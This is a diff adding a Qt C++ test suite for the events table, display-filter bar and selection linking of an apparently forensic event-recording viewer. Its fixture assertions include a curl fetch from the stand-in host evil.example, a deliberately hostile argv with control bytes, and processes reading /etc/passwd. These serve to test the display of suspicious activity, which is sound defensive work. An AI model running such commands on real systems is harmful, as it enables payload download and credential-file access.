@@ -1,0 +1,248 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+// The events table: EventTableModel under QAbstractItemModelTester on the fixture case (every event once, pages
+// loaded on demand behind a placeholder, filters and new generations), the display-filter bar (inline errors with
+// the column, apply on Enter, history kept), and the Events page's linking with the shared selection. Offscreen.
+#include "bytetext.h"
+#include "displayfilterbar.h"
+#include "eventspage.h"
+#include "guifixture.h"
+
+#include <QAbstractItemModelTester>
+#include <QComboBox>
+#include <QLineEdit>
+#include <QSettings>
+#include <QSignalSpy>
+#include <QTableView>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QToolButton>
+
+using namespace Qt::StringLiterals;
+using namespace Deck;
+
+class TestEventsPage : public QObject
+{
+    Q_OBJECT
+private Q_SLOTS:
+    void initTestCase();
+    void modelUnderTester();
+    void filterBar();
+    void pageFollowsAndSetsTheSelection();
+
+private:
+    qint64 scalar(const QString &sql);
+    static QString cell(const Models::EventTableModel &model, int row, Models::EventColumn column);
+
+    QTemporaryDir m_dir;
+    TestSupport::GuiCase m_case;
+};
+
+void TestEventsPage::initTestCase()
+{
+    QVERIFY(m_dir.isValid());
+    QCoreApplication::setOrganizationName(u"FlightRecorderTests"_s);
+    QSettings::setPath(QSettings::NativeFormat, QSettings::UserScope, m_dir.filePath(u"settings"_s));
+    m_case = TestSupport::buildGuiCase(m_dir.path(), 6000);
+    QVERIFY2(m_case.error.isEmpty(), qPrintable(m_case.error));
+}
+
+qint64 TestEventsPage::scalar(const QString &sql)
+{
+    auto db = Core::Database::open(m_case.location);
+    if (!db)
+        return -1;
+    auto value = (*db)->scalar(sql);
+    return value ? value->toLongLong() : -1;
+}
+
+QString TestEventsPage::cell(const Models::EventTableModel &model, int row, Models::EventColumn column)
+{
+    return model.data(model.index(row, int(column))).toString();
+}
+
+void TestEventsPage::modelUnderTester()
+{
+    Models::CaseSession session;
+    QSignalSpy opened(&session, &Models::CaseSession::opened);
+    session.open(m_case.location);
+    QVERIFY(opened.wait(10000));
+    auto walker = session.openWorker();
+    Models::EventTableModel model;
+    QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
+
+    const qint64 total = scalar(u"SELECT (SELECT count(*) FROM process_events) + (SELECT count(*) FROM file_events) "
+                                u"+ (SELECT count(*) FROM net_events) + (SELECT count(*) FROM state_changes) "
+                                u"+ (SELECT count(*) FROM host_events) + (SELECT count(*) FROM losses)"_s);
+    QVERIFY2(total > 2 * Models::EventTableModel::kFirstSlice, "the fixture is big enough for several slices");
+    model.show(&session.worker(), walker.get(), {});
+    QTRY_VERIFY_WITH_TIMEOUT(model.isComplete(), 20000);
+    QCOMPARE(model.rowCount(), total);
+
+    // A row of a page not yet read is a placeholder until its page lands; then it is the event itself.
+    const int last = model.rowCount() - 1;
+    QVERIFY(!model.loadedRow(last));
+    QCOMPARE(cell(model, last, Models::EventColumn::Time), u"loading…"_s);
+    QSignalSpy changed(&model, &QAbstractItemModel::dataChanged);
+    QTRY_VERIFY(model.loadedRow(last));
+    QVERIFY(std::any_of(changed.begin(), changed.end(), [&](const QList<QVariant> &signal) {
+        return signal.at(0).toModelIndex().row() <= last && signal.at(1).toModelIndex().row() == last;
+    }));
+    QVERIFY(cell(model, last, Models::EventColumn::Time).startsWith(u"20"_s));
+    // Rows are in time order across pages and tables.
+    QString previous;
+    for (int row : {0, 1, 255, 256, 257, 1000, last / 2, last - 1, last}) {
+        cell(model, row, Models::EventColumn::Time);
+        QTRY_VERIFY(model.loadedRow(row));
+    }
+    for (int row = 0; row <= last; row += 97) {
+        cell(model, row, Models::EventColumn::Time);
+        QTRY_VERIFY(model.loadedRow(row));
+        const QString time = cell(model, row, Models::EventColumn::Time);
+        QVERIFY2(time >= previous, qPrintable(time + u" after "_s + previous));
+        previous = time;
+    }
+
+    // A filter is a new generation: the known rows, with what the table shows of them.
+    Core::EventScope scope;
+    scope.filter = *Core::parseDisplayFilter(u"file.path == \"/etc/passwd\" and host == alpha"_s);
+    model.show(&session.worker(), walker.get(), scope);
+    QTRY_VERIFY(model.isComplete());
+    QCOMPARE(model.rowCount(), 2);
+    cell(model, 0, Models::EventColumn::Time);
+    QTRY_VERIFY(model.loadedRow(1));
+    QCOMPARE(cell(model, 0, Models::EventColumn::Host), u"alpha"_s);
+    QCOMPARE(cell(model, 0, Models::EventColumn::Process), u"curl (300)"_s);
+    QCOMPARE(cell(model, 0, Models::EventColumn::User), u"1000"_s);
+    QCOMPARE(cell(model, 0, Models::EventColumn::Kind), u"file open"_s);
+    QCOMPARE(cell(model, 0, Models::EventColumn::Object), u"/etc/passwd"_s);
+    QCOMPARE(cell(model, 1, Models::EventColumn::Process), u"python3 (400)"_s);
+    QCOMPARE(model.loadedRow(1)->path, QByteArray("/etc/passwd"));
+
+    // An exec shows the argv it ran with (the hostile one escaped, not cut at its control bytes); an exit its code.
+    scope.filter = *Core::parseDisplayFilter(u"host == alpha and (proc.pid == 301 or proc.pid == 300) and "
+                                             u"(event.kind == proc.exec or event.kind == proc.exit)"_s);
+    model.show(&session.worker(), walker.get(), scope);
+    QTRY_VERIFY(model.isComplete());
+    QCOMPARE(model.rowCount(), 3);
+    cell(model, 0, Models::EventColumn::Time);
+    QTRY_VERIFY(model.loadedRow(2));
+    QCOMPARE(cell(model, 0, Models::EventColumn::Detail), u"/usr/bin/curl http://evil.example/x"_s);
+    QCOMPARE(cell(model, 1, Models::EventColumn::Detail),
+             Core::displayArgv(TestSupport::QueryScenario::hostileArgv().join('\0')));
+    QCOMPARE(cell(model, 2, Models::EventColumn::Kind), u"proc.exit"_s);
+    QCOMPARE(cell(model, 2, Models::EventColumn::Detail), u"code 0"_s);
+
+    // Two generations in a row: only the last one's rows arrive.
+    scope.filter = *Core::parseDisplayFilter(u"net.rport == 443"_s);
+    model.show(&session.worker(), walker.get(), scope);
+    scope.filter = *Core::parseDisplayFilter(u"event.kind == rec.loss"_s);
+    model.show(&session.worker(), walker.get(), scope);
+    QTRY_VERIFY(model.isComplete());
+    QTest::qWait(200);
+    QCOMPARE(model.rowCount(), 1);
+    cell(model, 0, Models::EventColumn::Time);
+    QTRY_VERIFY(model.loadedRow(0));
+    QCOMPARE(cell(model, 0, Models::EventColumn::Object), u"proc.ebpf"_s);
+    QCOMPARE(cell(model, 0, Models::EventColumn::Detail), u"17 lost: ring buffer full"_s);
+    QVERIFY(model.loadedRow(0)->isLoss);
+
+    model.clear();
+    QCOMPARE(model.rowCount(), 0);
+}
+
+void TestEventsPage::filterBar()
+{
+    QSettings().remove(u"events/filterHistory"_s);
+    Gui::DisplayFilterBar bar;
+    QSignalSpy applied(&bar, &Gui::DisplayFilterBar::applied);
+    auto *line = bar.findChild<QLineEdit *>();
+    QVERIFY(line);
+
+    // Typed text is checked at once; Enter does not apply an invalid filter.
+    line->setFocus();
+    QTest::keyClicks(line, u"proc.exe =="_s);
+    QCOMPARE(bar.errorText(), u"Invalid filter — column 12: expected a value after =="_s);
+    QTest::keyClick(line, Qt::Key_Return);
+    QCOMPARE(applied.count(), 0);
+
+    QTest::keyClicks(line, u" \"/usr/bin/curl\""_s);
+    QCOMPARE(bar.errorText(), QString());
+    QTest::keyClick(line, Qt::Key_Return);
+    QCOMPARE(applied.count(), 1);
+    QCOMPARE(applied.at(0).at(1).toString(), u"proc.exe == \"/usr/bin/curl\""_s);
+    QCOMPARE(applied.at(0).at(0).value<Core::FilterNode>().field, u"proc.exe"_s);
+
+    QTest::qWait(1);
+    bar.apply(u"user == 0"_s);
+    bar.apply(u"proc.exe == \"/usr/bin/curl\""_s);
+    QCOMPARE(bar.history(), (QStringList{u"proc.exe == \"/usr/bin/curl\""_s, u"user == 0"_s}));
+    QCOMPARE(QSettings().value(u"events/filterHistory"_s).toStringList(), bar.history());
+    Gui::DisplayFilterBar reopened;
+    QCOMPARE(reopened.history(), bar.history());
+
+    // The empty filter is valid (every event) and is not remembered.
+    bar.apply(QString());
+    QCOMPARE(applied.count(), 4);
+    QCOMPARE(bar.history().size(), 2);
+    bar.apply(u"host == \"a"_s);
+    QCOMPARE(applied.count(), 4);
+    QVERIFY2(bar.errorText().contains(u"column 9: the string has no closing"_s), qPrintable(bar.errorText()));
+}
+
+void TestEventsPage::pageFollowsAndSetsTheSelection()
+{
+    Models::CaseSession session;
+    Gui::EventsPage page(session);
+    page.resize(1200, 600);
+    page.show();
+    QSignalSpy opened(&session, &Models::CaseSession::opened);
+    session.open(m_case.location);
+    QVERIFY(opened.wait(10000));
+    auto &model = page.model();
+    QTRY_VERIFY_WITH_TIMEOUT(model.isComplete() && model.rowCount() > 6000, 20000);
+
+    page.filterBar()->apply(u"net.rport == 443 and (host == alpha or host == beta)"_s);
+    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
+    QCOMPARE(page.statusText(), u"2 events"_s);
+    QTRY_VERIFY(model.loadedRow(1));
+
+    // Selecting beta's connection selects its process, host and endpoint; the table does not narrow to beta.
+    auto &selection = session.selection();
+    page.view()->setCurrentIndex(model.index(1, 0));
+    const qint64 beta = scalar(u"SELECT id FROM hosts WHERE hostname = 'beta'"_s);
+    const qint64 wget = scalar(u"SELECT id FROM processes WHERE comm = 'wget'"_s);
+    QCOMPARE(selection.process(), std::optional<qint64>(wget));
+    QCOMPARE(selection.host(), std::optional<qint64>(beta));
+    QCOMPARE(selection.endpoint(), std::optional<Models::Endpoint>(Models::Endpoint{u"203.0.113.5"_s, 443}));
+    QTest::qWait(100);
+    QCOMPARE(model.rowCount(), 2);
+    // Nor does a time range chosen later: the host this page follows is one selected elsewhere.
+    selection.setTimeRange({TestSupport::QueryScenario::at(0), TestSupport::QueryScenario::at(90000)});
+    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
+    selection.setTimeRange({});
+    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
+
+    // A host or time range selected elsewhere narrows the table, and the button widens it again.
+    const qint64 alpha = scalar(u"SELECT id FROM hosts WHERE hostname = 'alpha'"_s);
+    selection.setHost(alpha);
+    QTRY_VERIFY(model.isComplete() && model.rowCount() == 1);
+    selection.setHost(std::nullopt);
+    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
+    selection.setTimeRange({TestSupport::QueryScenario::at(81), std::nullopt});
+    QTRY_VERIFY(model.isComplete() && model.rowCount() == 1);
+    auto *widen = page.findChild<QToolButton *>(u"widenScope"_s);
+    QVERIFY(widen && widen->isVisible());
+    widen->click();
+    QVERIFY(!selection.timeRange().from);
+    QTRY_VERIFY(model.isComplete() && model.rowCount() == 2);
+
+    // A filter that matches nothing says so.
+    page.filterBar()->apply(u"proc.comm == \"no such program\""_s);
+    QTRY_COMPARE(page.statusText(), u"0 events"_s);
+
+    session.close();
+    QCOMPARE(model.rowCount(), 0);
+}
+
+QTEST_MAIN(TestEventsPage)
+#include "tst_eventspage.moc"
